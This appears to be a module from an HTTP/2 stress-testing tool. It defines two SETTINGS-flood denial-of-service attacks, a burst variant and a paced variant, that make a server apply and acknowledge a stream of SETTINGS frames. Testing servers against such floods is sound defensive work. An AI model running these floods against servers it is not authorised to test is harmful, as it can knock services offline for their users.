import { type Attack, callHeaders, repeated } from "./attack.js";
import { setting } from "./frames.js";

const INITIAL_WINDOW_SIZE = 4;

/** SETTINGS, each of which must be put in force and acknowledged. */
export const settingsFlood: Attack = {
  name: "SETTINGS flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.flood(repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 200), 200);
  },
};

/** Never so many at once that acknowledgements pile up, but a thousand a second. */
export const pacedSettingsFlood: Attack = {
  name: "SETTINGS flood, paced",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.write(callHeaders(1));
    const settings = repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 30);
    while (connection.going) {
      await connection.write(settings, 30);
      await connection.wait(20);
    }
  },
};
